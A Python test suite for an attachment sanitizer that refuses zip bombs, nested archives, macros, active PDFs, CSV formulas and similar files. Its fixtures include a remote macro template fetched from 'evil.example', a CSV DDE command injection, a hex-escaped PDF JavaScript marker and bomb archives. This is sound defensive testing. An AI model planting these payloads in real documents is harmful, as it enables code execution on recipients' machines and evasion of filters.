"""Files that must not reach the staff: bombs, nested archives, active content, too big to check."""

from __future__ import annotations

import io
import os
import zipfile

import attachments_samples as samples
import pytest

from sanitize import ArchiveLimits, Kind, Refused, clean, inspect, sniff

_REMOTE_TEMPLATE_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/attachedTemplate" Target="https://evil.example/t.dotm" '
    'TargetMode="External"/></Relationships>'
)
_HYPERLINK_RELS = _REMOTE_TEMPLATE_RELS.replace("attachedTemplate", "hyperlink")


def _refusal(data: bytes, kind: Kind, **options: object) -> str:
    found = inspect(data, kind, **options)  # type: ignore[arg-type]
    assert found.refused is not None, "expected a refusal"
    assert found.refused.message("sv") and found.refused.message("en")
    # clean() must refuse the same file, not write a "cleaned" copy of it.
    with pytest.raises(Refused) as refused:
        clean(data, kind, io.BytesIO(), **options)  # type: ignore[arg-type]
    assert refused.value.code == found.refused.code
    return found.refused.code


def test_a_zip_bomb_in_office_clothing_is_refused() -> None:
    bomb = samples.docx(extra={"word/media/padding.xml": bytes(20 * 1024 * 1024)})
    assert _refusal(bomb, Kind.DOCX) == "archive_bomb"


def test_too_many_entries_or_too_much_data_is_refused() -> None:
    many = samples.docx(extra={f"word/part{i}.xml": b"<a/>" for i in range(30)})
    assert _refusal(many, Kind.DOCX, limits=ArchiveLimits(max_entries=20)) == "archive_bomb"
    big = samples.docx(extra={"word/big.xml": os.urandom(300_000)})
    limits = ArchiveLimits(max_uncompressed_bytes=200_000)
    assert _refusal(big, Kind.DOCX, limits=limits) == "archive_bomb"


def test_a_zip_inside_a_docx_is_refused_whatever_it_is_called() -> None:
    inner = samples.zip_of({"payload.exe": b"MZ\x90\x00"})
    assert _refusal(samples.docx(extra={"word/media/image2.png": inner}), Kind.DOCX) == (
        "nested_archive"
    )
    assert _refusal(samples.docx(extra={"word/embeddings/x.bin": b"abc"}), Kind.DOCX) == (
        "nested_archive"
    )
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(100)
    assert _refusal(samples.docx(extra={"word/stuff.dat": ole}), Kind.DOCX) == "nested_archive"


def test_macros_and_remote_templates_are_refused_but_hyperlinks_are_fine() -> None:
    macro = samples.docx(main="../ms-word.document.macroEnabled.main+xml")
    with pytest.raises(Refused) as refused:
        sniff(macro, "x.docm")
    assert refused.value.code == "macros"
    assert _refusal(macro, Kind.DOCX) == "macros"
    vba = samples.docx(extra={"word/vbaProject.bin": b"\x00" * 10})
    assert _refusal(vba, Kind.DOCX) == "macros"
    remote = samples.docx(document_rels=_REMOTE_TEMPLATE_RELS)
    assert _refusal(remote, Kind.DOCX) == "external_content"
    assert inspect(samples.docx(document_rels=_HYPERLINK_RELS), Kind.DOCX).accepted


def test_a_plain_zip_named_like_a_document_is_refused_by_inspect() -> None:
    plain = samples.zip_of({"customXml/item1.bin": os.urandom(80_000), "a.txt": b"hej"})
    kind = sniff(plain[:65536], "rapport.docx")  # the name could only suggest
    assert kind is Kind.DOCX
    assert _refusal(plain, kind) == "archive"


def test_a_docx_that_is_really_a_spreadsheet_is_inspected_as_one() -> None:
    sheet = samples.docx(main="spreadsheetml.sheet.main+xml")
    assert inspect(sheet, Kind.DOCX).kind is Kind.XLSX


def test_a_pdf_with_javascript_or_an_attached_file_is_refused() -> None:
    assert _refusal(samples.pdf_with_author(javascript=True), Kind.PDF) == "pdf_active"
    assert _refusal(samples.pdf_with_author(attachment=True), Kind.PDF) == "pdf_active"


def test_a_pdf_hiding_its_javascript_behind_name_escapes_is_refused() -> None:
    data = samples.pdf_with_author(javascript=True).replace(b"/JavaScript", b"/J#61vaScript")
    assert _refusal(data, Kind.PDF) == "pdf_active"


def test_content_that_is_not_what_sniff_saw_is_refused() -> None:
    # A JPEG head with a program appended after the image would be dropped by
    # clean(); a JPEG that is cut short is damaged.
    photo = samples.jpeg_with_gps()
    assert _refusal(photo[: len(photo) // 2], Kind.JPEG) == "damaged"
    assert _refusal(b"Hej\n" + b"\x7fELF\x00\x00" * 10, Kind.TEXT) == "damaged"
    assert _refusal(samples.png_with_author(), Kind.PDF) == "damaged"


def test_data_after_the_end_of_an_image_is_reported_and_dropped() -> None:
    photo = samples.jpeg_with_gps() + samples.zip_of({"x.exe": b"MZ"})
    assert "trailing_data" in {f.code for f in inspect(photo, Kind.JPEG).findings}
    out = io.BytesIO()
    clean(photo, Kind.JPEG, out)
    assert out.getvalue().endswith(b"\xff\xd9") and b"PK" not in out.getvalue()[-100:]


def test_a_csv_formula_that_runs_commands_is_refused() -> None:
    csv = b'namn;belopp\nAnna;100\n=cmd|"/c calc"!A1;0\n'
    assert sniff(csv, "x.csv") is Kind.CSV
    assert _refusal(csv, Kind.CSV) == "formula"
    assert _refusal(b'a,b\n1,=HYPERLINK("http://x")\n', Kind.CSV) == "formula"
    assert inspect(b"a;b\n1;-5\n2;=SUMMA(A1)\n", Kind.CSV).accepted


def test_an_email_with_attached_files_is_refused() -> None:
    mail = (
        b"From: a@example.se\r\nDate: Mon, 4 Mar 2024 10:00:00 +0100\r\n"
        b"MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=XX\r\n\r\n"
        b"--XX\r\nContent-Type: text/plain\r\n\r\nSe bilaga.\r\n"
        b"--XX\r\nContent-Type: application/octet-stream\r\n"
        b"Content-Disposition: attachment; filename=a.exe\r\n\r\nTVqQAAMAAAAEAAAA\r\n--XX--\r\n"
    )
    assert _refusal(mail, Kind.EML) == "mail_attachments"


def test_a_whole_file_kind_over_the_memory_bound_is_refused_without_reading_it_all() -> None:
    document = samples.pdf_with_author()

    class Endless(io.RawIOBase):
        """A file that never ends: only a bounded read can finish."""

        read_bytes = 0

        def readable(self) -> bool:
            return True

        def readinto(self, buffer: memoryview) -> int:  # type: ignore[override]
            buffer[: len(buffer)] = b"\x00" * len(buffer)
            self.read_bytes += len(buffer)
            return len(buffer)

    assert _refusal(document, Kind.PDF, max_in_memory_bytes=1000) == "too_large_to_check"
    endless = Endless()
    found = inspect(endless, Kind.PDF, max_in_memory_bytes=1024 * 1024)  # type: ignore[arg-type]
    assert found.refused is not None and found.refused.code == "too_large_to_check"
    assert "1 MiB" in found.refused.message("en")
    assert endless.read_bytes <= 1024 * 1024 + 64 * 1024


def test_an_encrypted_zip_entry_is_refused() -> None:
    document = bytearray(samples.docx())
    # Set the "encrypted" flag on every entry in the central directory.
    at = document.find(b"PK\x01\x02")
    while at >= 0:
        document[at + 8] |= 0x01
        at = document.find(b"PK\x01\x02", at + 4)
    assert _refusal(bytes(document), Kind.DOCX) == "encrypted"


def test_a_zip_with_two_parts_of_the_same_name_is_refused() -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("[Content_Types].xml", b"<Types/>")
        with pytest.warns(UserWarning):
            archive.writestr("[Content_Types].xml", b"<Types/>")
    assert _refusal(out.getvalue(), Kind.DOCX) == "damaged"
